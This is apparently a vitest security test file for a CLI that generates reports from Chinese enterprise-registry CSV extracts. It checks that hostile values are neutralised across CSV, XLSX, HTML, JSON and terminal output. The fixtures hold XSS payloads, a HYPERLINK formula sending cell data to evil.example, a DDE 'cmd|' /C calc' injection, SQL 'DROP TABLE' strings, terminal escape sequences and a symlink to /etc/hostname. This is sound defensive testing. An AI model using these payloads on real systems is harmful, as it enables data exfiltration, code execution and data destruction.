import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tableFromIPC } from 'apache-arrow';
import { beforeAll, describe, expect, test } from 'vitest';
import { guarded } from '../../src/report/csv.js';
import { REPORT_FORMATS } from '../../src/report/formats.js';
import { bidui, runOf, type Told } from '../cli/bidui.js';
import { A, B, C, EXTRACTS, lines, type World, world } from '../cli/world.js';
import { embedded } from '../report/page/embedded.js';
import { csvRows, json } from '../report/read.js';
import { readXml } from '../report/read-xml.js';
import { parts } from '../report/workbook/read.js';

/** An enterprise is called what its extract says. */
const NAMES = {
  markup: `</script><img src=x onerror="alert(1)"><svg onload=alert(2)>&amp;]]>`,
  formula: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  terminal: '\u001b]0;pwned\u0007\u001b[2J\u001b[31m苏州\u009b2J\u202e司公\u2066丁',
};
const SQL = `x'; DROP TABLE src.enterprise; --`;
const CELL = (text: string) => `"${text.replaceAll('"', '""')}"`;

let w: World;
let told: Told;
let logged: Told;

beforeAll(async () => {
  w = world({
    extracts: {
      '企业登记_20260731.csv': lines(
        `统一社会信用代码,企业名称,登记状态,法定代表人,联系电话,成立日期,${CELL(SQL)},${CELL(`"; SELECT 1; --`)},<b>列</b>,\u001b[31m列`,
        `${A},${CELL(NAMES.markup)},存续,欧阳建国,13812345678,2015-02-03,1,1,1,1`,
        `${B},${CELL(NAMES.formula)},在业,上官婉儿,13812345678,2015-02-30,1,1,1,1`,
        `${C},${CELL(NAMES.terminal)},${CELL(SQL)},王五,NaN,9999999999999-01-01,1,1,1,1`,
        `91320594MA7ABCDE98,${CELL(NAMES.terminal)},存续,王五,,,1,1,1,1`,
      ),
      '许可证.csv': lines(
        '许可证编号,统一社会信用代码,单位名称,法定代表人,有效期至,年费',
        `${CELL(NAMES.formula)},${A},x,诸葛明亮,2025-06-30,NaN`,
        `${CELL(NAMES.markup)},${A},x,诸葛明亮,2025-06-30,Infinity`,
        `${CELL(NAMES.terminal)},${A},x,诸葛明亮,2025-06-30,1e999`,
        `${CELL(SQL)},${A},x,诸葛明亮,2025-06-30,${'9'.repeat(400)}`,
        `${CELL('第一行\r\n第二行\u2028第三行')},${B},x,上官婉儿,2025-06-30,-1e-400`,
        `${CELL('N\0UL')},${B},x,上官婉儿,2025-06-30,0x1F`,
        `${CELL('长'.repeat(200_000))},${B},x,上官婉儿,2025-06-30,1`,
        `${CELL(`@SUM(1+1)*cmd|' /C calc'!A0`)},${B},x,上官婉儿,2025-06-30,1`,
      ),
      '人员\u001b[31m\u202e红\u0007.csv': EXTRACTS['人员.csv']!,
      '人员.csv': null,
      '\u001b[2J.csv': 'a,b\n1,2\n',
    },
  });
  symlinkSync('/etc/hostname', join(w.input, '许可证_2.csv'));
  const every = ['--format', REPORT_FORMATS.join(',')];
  told = await bidui(runOf(w, ...every));
  logged = await bidui(runOf(w, ...every, '--log', 'json'));
}, 120_000);

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

test('comes to its end, and says so in documented ways', () => {
  for (const t of [told, logged]) expect([0, 6], t.err).toContain(t.code);
  expect(csvRows(w.out, 'anomalies.csv').length).toBeGreaterThan(5);
});

test('no control character reaches the terminal, from a value or from the name of a file', () => {
  for (const t of [told, logged]) for (const text of [t.out, t.err]) expect(text).not.toMatch(CONTROL);
  for (const line of logged.err.trim().split('\n')) JSON.parse(line);
});

test('a link that leads out of the directory is not read, and that is told', () => {
  expect(JSON.stringify(json(w.out, 'run.json'))).toContain(
    '许可证_2.csv: a link that leads out of the directory, not read',
  );
});

test('no cell of a CSV begins a formula', () => {
  for (const file of ['anomalies.csv', 'outcomes.csv', 'quarantine.csv', 'by-department/生态环境局.csv']) {
    const rows = csvRows(w.out, file);
    for (const row of rows)
      for (const cell of Object.values(row))
        expect(cell.replace(/^\t(?=\d)/, '')).toBe(guarded(cell.replace(/^\t(?=\d)/, '')));
    for (const header of Object.keys(rows[0] ?? {})) expect(header).toBe(guarded(header));
  }
  expect(readFileSync(join(w.out, 'anomalies.csv'), 'utf8')).toContain(`"'=HYPERLINK(`);
});

describe('a workbook', () => {
  test('is well-formed, holds no formula of an extract and no link out', async () => {
    for (const file of ['anomalies.xlsx', 'by-department/生态环境局.xlsx']) {
      const texts = await parts(join(w.out, file));
      for (const [part, text] of texts) {
        readXml(text);
        expect([part, /<f[ >]/.test(text) && /HYPERLINK|cmd\|/.test(/<f[ >].*?<\/f>/s.exec(text)?.[0] ?? '')]).toEqual([
          part,
          false,
        ]);
        expect([part, /TargetMode="External"|<hyperlink[^>]*r:id/.test(text)]).toEqual([part, false]);
      }
    }
  });
});

test('nothing of a value is markup in the page, in junit, in the summary of a job', () => {
  const page = embedded(join(w.out, 'report.html'));
  expect(page.html).not.toMatch(/<img src=x|<svg onload/);
  expect(page.text).toContain('onerror=');
  readXml(readFileSync(join(w.out, 'junit.xml'), 'utf8'));
  expect(readFileSync(join(w.out, 'summary.md'), 'utf8')).not.toMatch(/(?<!\\)<(?:img|svg|script)/);
});

test('programs read back every value', () => {
  const rows = json(w.out, 'anomalies.json') as Record<string, string>[];
  expect(rows.map((r) => r.enterprise).join()).toContain('<svg onload=alert（2）>');
  const nd = readFileSync(join(w.out, 'anomalies.ndjson'), 'utf8').trimEnd().split('\n');
  expect(nd.map((l) => (JSON.parse(l) as { anomaly_id: string }).anomaly_id)).toEqual(rows.map((r) => r.anomaly_id));
  expect(tableFromIPC(readFileSync(join(w.out, 'anomalies.arrow'))).numRows).toBe(rows.length);
});

test('numbers that are none are quarantined, with what stands there', () => {
  const raw = csvRows(w.out, 'quarantine.csv')
    .filter((r) => r.字段 === '年费')
    .map((r) => r[Object.keys(r).find((k) => /^原/.test(k))!]);
  // NaN is what some programs write for nothing.
  for (const value of ['Infinity', '\t1e999', "'-1e-400"]) expect(raw).toContain(value);
  // A record with a NUL in it is refused whole.
  expect(csvRows(w.out, 'quarantine.csv').filter((r) => r.文件 === '许可证.csv' && r.隔离范围 === '整行')).toHaveLength(
    1,
  );
});

test('the dossier of such an enterprise is text in HTML and in the terminal', async () => {
  const of = (format: string, uscc: string) =>
    bidui(
      [
        ...['dossier', uscc, '--input', w.input, '--as-of', '2026-07-31', '--checks', w.checks],
        ...['--format', format],
      ],
      { cwd: w.root },
    );
  const html = await of('html', A);
  expect(html.code, html.err).toBe(0);
  expect(html.out).not.toMatch(/<img|<svg onload|<\/script><img/);
  const text = await of('text', C);
  expect(text.code, text.err).toBe(0);
  expect(text.out).not.toMatch(CONTROL);
});

test('code lists, titles and labels of checks are texts to SQL', async () => {
  const label = `甲'乙"; DROP TABLE src.enterprise; --`;
  const odd = world({
    checks: {
      'codes/status.yaml': `codes: status\ntitle: { zh: ${JSON.stringify(label)}, en: Status }\nentries:\n  active: { zh: ${JSON.stringify(label)}, en: Active, labels: [存续, 在业, ${JSON.stringify(SQL)}] }\n  cancelled: { zh: 注销, en: Cancelled }\n`,
    },
  });
  const t = await bidui(runOf(odd));
  expect(t.code, t.err).toBe(0);
  expect(JSON.stringify(csvRows(odd.out, 'anomalies.csv'))).toContain('DROP TABLE src.enterprise');
  writeFileSync(join(odd.checks, 'sources/x.yaml'), 'source: "x\'; --"\n');
  const lint = await bidui(['checks', 'lint', '--checks', odd.checks]);
  expect(lint.code).toBe(2);
});
